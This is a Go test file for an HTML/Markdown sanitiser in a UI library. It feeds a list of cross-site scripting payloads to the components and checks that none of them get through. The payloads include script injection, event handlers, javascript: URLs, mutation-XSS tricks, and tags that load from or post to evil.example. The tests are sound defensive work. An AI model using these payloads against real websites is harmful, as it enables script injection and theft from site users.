package pn_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/panelgo/panelgo/pn"
)

func TestHTMLPane(t *testing.T) {
	const text = `<h2 class="x">Title</h2><p onclick="alert(1)">A <a href="https://example.com/">link</a></p><script>alert(1)</script>`
	golden(t, "html",
		example{"sanitised", pn.HTML(text)},
		example{"set, sanitised", pn.HTML("").Set(text)},
		example{"unsafe", pn.HTML(text).Unsafe()},
		example{"set, unsafe", pn.HTML("").Unsafe().Set(text)},
	)
	if got := pn.HTML(text).Value(); got != text {
		t.Errorf("value %q", got)
	}
}

// attacks is HTML that runs, loads or submits something.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<p onmouseover="alert(1)">x</p>`,
	`<p/onclick=alert(1)>x</p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" jAvA&#x09;script:alert(1)">x</a>`,
	`<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<object data="x"></object><embed src="x">`,
	`<svg onload=alert(1)><animate onbegin=alert(1)></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<style>body{display:none}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<link rel=stylesheet href="https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<form action="https://evil.example/"><input name=x><button>x</button></form>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><script>alert(1)</script>"></noscript>`,
	`<!--><script>alert(1)</script>-->`,
	"<p>\x00\x03<script>alert(1)</script>",
}

// None of it gets through, in HTML and in Markdown.
func TestAttacksAreSanitised(t *testing.T) {
	for _, attack := range attacks {
		for name, c := range map[string]pn.Component{
			"HTML":             pn.HTML(attack),
			"HTML, set":        pn.HTML("").Set(attack),
			"Markdown":         pn.Markdown(attack),
			"Markdown, inline": pn.Markdown("text " + attack + " text"),
			"Markdown, set":    pn.Markdown("").Set(attack),
		} {
			got := show(t, c)
			if bad := firstActive(t, strings.ReplaceAll(got, `<img src="x"/>`, "")); bad != "" {
				t.Errorf("%s: %s became %s, with %s", name, attack, got, bad)
			}
			if strings.Contains(got, "style=") || strings.Contains(got, "data:text") || strings.Contains(got, "<input") {
				t.Errorf("%s: %s became %s", name, attack, got)
			}
		}
	}
}

// Open elements are closed and stray end tags dropped, so that HTML stays in
// its place and cannot change what is around it.
func TestHTMLStaysInItsPlace(t *testing.T) {
	for _, text := range []string{"</div></div><p>out", "<b><i>x", "<table><tr><td>x", "<!-- x", "<p title='x", "</main></body></html>", "<li>x", "<select><option>x"} {
		for name, c := range map[string]pn.Component{
			"HTML": pn.HTML(text), "Markdown": pn.Markdown(text), "unsafe": pn.HTML(text).Unsafe(),
		} {
			root, err := html.Parse(strings.NewReader(show(t, pn.Row(c, pn.Text("after")))))
			if err != nil {
				t.Fatal(err)
			}
			var path []string
			for n := range root.Descendants() {
				if n.Data != "after" {
					continue
				}
				for n = n.Parent; n != nil; n = n.Parent {
					path = append(path, n.Data)
				}
			}
			if got := strings.Join(path, " < "); got != "div < div < body < html < " {
				t.Errorf("%s: after %s the next text stands in %s", name, text, got)
			}
		}
	}
}

// Nothing in HTML is taken for a component or for an enabled control.
func TestHTMLIsNoComponent(t *testing.T) {
	const text = `<p id="pn-main" data-pn="tabs">x</p><p ID=c1>y</p><input type="checkbox" id="c2"><input type="text" value="z"><a name="c1">`
	for _, c := range []pn.Component{pn.HTML(text), pn.Markdown(text)} {
		got := show(t, c)
		for _, bad := range []string{`"pn-main"`, `"tabs"`, `"c2"`, `type="text"`} {
			if strings.Contains(got, bad) {
				t.Errorf("%s: %s", bad, got)
			}
		}
		if strings.Count(got, `"c1"`) != 1 || strings.Count(got, "<input") != strings.Count(got, "disabled") {
			t.Errorf("%s", got)
		}
	}
}

// HTML nested deeper than any page needs is shown as text.
func TestHTMLNestedDeeply(t *testing.T) {
	text := strings.Repeat("<div>", 10_000)
	for _, c := range []pn.Component{pn.HTML(text), pn.HTML(text).Unsafe(), pn.HTML("").Set(text), pn.Markdown(text)} {
		if got := strings.Count(show(t, c), "<div>"); got > 1_000 {
			t.Errorf("%s: %d elements", c.Node().Kind(), got)
		}
	}
}
